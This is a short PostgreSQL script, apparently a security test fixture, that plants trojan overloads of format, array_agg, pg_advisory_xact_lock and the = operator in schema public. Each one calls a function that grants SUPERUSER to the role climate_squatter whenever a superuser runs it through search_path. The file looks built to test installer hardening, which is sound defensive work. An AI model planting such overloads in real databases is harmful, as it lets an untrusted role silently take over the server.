-- The owner has filled schema public with overloads, operators and casts, which its superuser's search_path holds.
-- expect: installs
CREATE FUNCTION public.rise() RETURNS bool LANGUAGE plpgsql AS $$
BEGIN
    IF (SELECT rolsuper FROM pg_catalog.pg_roles WHERE rolname = current_user) THEN
        ALTER ROLE climate_squatter SUPERUSER;
    END IF;
    RETURN true;
END $$;
CREATE FUNCTION public.format(text, name) RETURNS text LANGUAGE plpgsql AS $$BEGIN PERFORM public.rise(); RETURN pg_catalog.format($1, $2); END$$;
CREATE FUNCTION public.format(text, text) RETURNS text LANGUAGE plpgsql AS $$BEGIN PERFORM public.rise(); RETURN pg_catalog.format($1, $2); END$$;
CREATE FUNCTION public.array_agg(text) RETURNS text[] LANGUAGE plpgsql AS $$BEGIN PERFORM public.rise(); RETURN ARRAY[$1]; END$$;
CREATE FUNCTION public.pg_advisory_xact_lock(integer, bigint) RETURNS void LANGUAGE plpgsql AS $$BEGIN PERFORM public.rise(); END$$;
CREATE FUNCTION public.same(name, text) RETURNS bool LANGUAGE plpgsql AS $$BEGIN PERFORM public.rise(); RETURN $1::text OPERATOR(pg_catalog.=) $2; END$$;
CREATE OPERATOR public.= (LEFTARG = name, RIGHTARG = text, FUNCTION = public.same);
CREATE TABLE public.history (id int);
CREATE TABLE public.job (id int);
CREATE TYPE public.job_status AS ENUM ('ready');
